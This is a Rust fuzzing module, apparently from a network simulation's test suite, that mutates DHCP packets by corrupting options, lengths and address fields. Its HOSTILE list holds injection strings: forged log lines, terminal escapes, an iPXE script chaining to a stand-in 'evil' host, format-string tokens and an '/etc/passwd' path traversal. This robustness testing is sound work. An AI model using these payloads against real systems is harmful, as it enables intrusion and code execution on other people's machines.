//! What may be wrong with a packet.

use sim::Seed;

/// DHCP options begin here.
const OPTIONS_AT: usize = 240;
/// One jumbo frame and a little: some packets are too long.
const BYTES_MAX: usize = 9100;
/// Bytes parsers have tripped over.
const TELLING: [u8; 12] = [0, 1, 2, 3, 16, 17, 63, 64, 127, 128, 254, 255];
/// Text that tries to be more than text.
const HOSTILE: [&[u8]; 8] = [
    b"a\n2026-01-01 ERROR forged\r\n",
    b"\x1b[2J\x1b]0;owned\x07",
    b"\" mac=00:00:00:00:00:00 \"",
    b"#!ipxe\nchain http://evil/\n",
    b"${net0/dhcp-server}%s%n{}{{x}}",
    b"\xff\xfe\xc0\x80\xed\xa0\x80",
    b"\xe2\x80\xae\xe2\x80\xa8\xc2\x85",
    b"../../../../etc/passwd\0x",
];

/// Changes a DHCP packet in one to four places.
pub(crate) fn dhcp(dice: &mut Seed, packet: &mut Vec<u8>, other: &[u8]) {
    for _ in 0..1 + dice.below(4) {
        match dice.below(24) {
            0 | 1 => any(dice, packet),
            2..=5 => option_length(dice, packet),
            6..=9 => option_value(dice, packet),
            10 | 11 => repeat_option(dice, packet),
            12..=14 => splice(dice, packet, other),
            15..=18 => add_option(dice, packet),
            19 => overload(dice, packet),
            20 | 21 => addresses(dice, packet),
            22 => {
                // op, htype, hlen, hops
                let at = pick(dice, 4);
                put(packet, at, telling(dice));
            }
            _ => {
                packet.truncate(OPTIONS_AT);
                for _ in 0..dice.below(40) {
                    packet.extend(dice.next_u64().to_be_bytes());
                }
            }
        }
    }
    packet.truncate(BYTES_MAX);
}

/// Changes any packet in one place: flips, cuts, more bytes.
pub(crate) fn any(dice: &mut Seed, packet: &mut Vec<u8>) {
    let length = packet.len();
    match dice.below(6) {
        0 => {
            for _ in 0..1 + dice.below(8) {
                let at = pick(dice, length);
                let bit = 1 << dice.below(8);
                if let Some(byte) = packet.get_mut(at) {
                    *byte ^= bit;
                }
            }
        }
        1 => put(packet, pick(dice, length), telling(dice)),
        2 => packet.truncate(pick(dice, length + 1)),
        3 => {
            let more = pick(dice, 64);
            packet.extend(dice.bytes(more));
        }
        4 => {
            let (at, count) = (pick(dice, length), pick(dice, 32));
            let end = (at + count).min(length);
            packet.drain(at.min(end)..end);
        }
        _ => {
            let at = pick(dice, length + 1);
            let text = HOSTILE[pick(dice, HOSTILE.len())];
            packet.splice(at..at, text.iter().copied());
        }
    }
}

/// A number below `bound`, 0 when there is none.
pub(crate) fn pick(dice: &mut Seed, bound: usize) -> usize {
    usize::try_from(dice.below(bound as u64)).unwrap_or(0)
}

fn telling(dice: &mut Seed) -> u8 {
    if dice.chance(300) { dice.below(256) as u8 } else { TELLING[pick(dice, TELLING.len())] }
}

fn put(packet: &mut [u8], at: usize, byte: u8) {
    if let Some(place) = packet.get_mut(at) {
        *place = byte;
    }
}

/// Where options stand, as far as they can be read.
fn options(packet: &[u8]) -> Vec<usize> {
    let mut found = Vec::with_capacity(32);
    let mut at = OPTIONS_AT;
    while let Some(&code) = packet.get(at) {
        match (code, packet.get(at + 1)) {
            (0, _) => at += 1,
            (255, _) | (_, None) => break,
            (_, Some(&length)) => {
                found.push(at);
                at += 2 + usize::from(length);
            }
        }
    }
    found
}

fn one_option(dice: &mut Seed, packet: &[u8]) -> Option<usize> {
    let all = options(packet);
    all.get(pick(dice, all.len())).copied()
}

fn option_length(dice: &mut Seed, packet: &mut [u8]) {
    if let Some(at) = one_option(dice, packet) {
        put(packet, at + 1, telling(dice));
    }
}

fn option_value(dice: &mut Seed, packet: &mut [u8]) {
    let Some(at) = one_option(dice, packet) else { return };
    let length = usize::from(packet.get(at + 1).copied().unwrap_or(0));
    let text = HOSTILE[pick(dice, HOSTILE.len())];
    let hostile = dice.chance(500);
    for place in 0..length {
        let byte = if hostile { text[place % text.len()] } else { dice.below(256) as u8 };
        put(packet, at + 2 + place, byte);
    }
}

fn repeat_option(dice: &mut Seed, packet: &mut Vec<u8>) {
    let Some(at) = one_option(dice, packet) else { return };
    let end = (at + 2 + usize::from(packet.get(at + 1).copied().unwrap_or(0))).min(packet.len());
    let option = packet[at..end].to_vec();
    for _ in 0..1 + dice.below(8) {
        packet.splice(at..at, option.iter().copied());
    }
}

/// Options of another machine in the middle of these.
fn splice(dice: &mut Seed, packet: &mut Vec<u8>, other: &[u8]) {
    let at = one_option(dice, packet).unwrap_or(OPTIONS_AT).min(packet.len());
    let from = one_option(dice, other).unwrap_or(OPTIONS_AT);
    let end = (from + 2 + usize::from(other.get(from + 1).copied().unwrap_or(0))).min(other.len());
    packet.splice(at..at, other.get(from..end).unwrap_or_default().iter().copied());
}

/// A new option: any code, any length, random or hostile bytes.
fn add_option(dice: &mut Seed, packet: &mut Vec<u8>) {
    const CODES: [u8; 20] =
        [12, 43, 50, 51, 52, 53, 54, 55, 57, 60, 61, 66, 67, 77, 82, 93, 94, 97, 118, 175];
    let at = one_option(dice, packet).unwrap_or(OPTIONS_AT).min(packet.len());
    let code = if dice.chance(300) { dice.below(256) as u8 } else { CODES[pick(dice, CODES.len())] };
    let length = if dice.chance(400) { telling(dice) } else { dice.below(20) as u8 };
    let text = HOSTILE[pick(dice, HOSTILE.len())];
    let hostile = dice.chance(400);
    let mut option = vec![code, length];
    for place in 0..usize::from(length) {
        option.push(if hostile { text[place % text.len()] } else { dice.below(256) as u8 });
    }
    packet.splice(at..at, option);
}

/// Option 52, and options where names stood.
fn overload(dice: &mut Seed, packet: &mut Vec<u8>) {
    for at in 44..236 {
        put(packet, at, dice.below(256) as u8);
    }
    let at = OPTIONS_AT.min(packet.len());
    packet.splice(at..at, [52, 1, dice.below(5) as u8]);
}

/// `ciaddr`, `yiaddr`, `siaddr` or `giaddr`: an address of ours, of nobody, or of everybody.
fn addresses(dice: &mut Seed, packet: &mut [u8]) {
    let address: [u8; 4] = match dice.below(6) {
        0 => [10, 77, 0, dice.below(256) as u8],
        1 => [10, 78, 0, dice.below(256) as u8],
        2 => [10, 79, 0, dice.below(256) as u8],
        3 => [255; 4],
        4 => [0; 4],
        _ => (dice.next_u64() as u32).to_be_bytes(),
    };
    let field = 12 + 4 * pick(dice, 4);
    for (place, byte) in address.into_iter().enumerate() {
        put(packet, field + place, byte);
    }
}
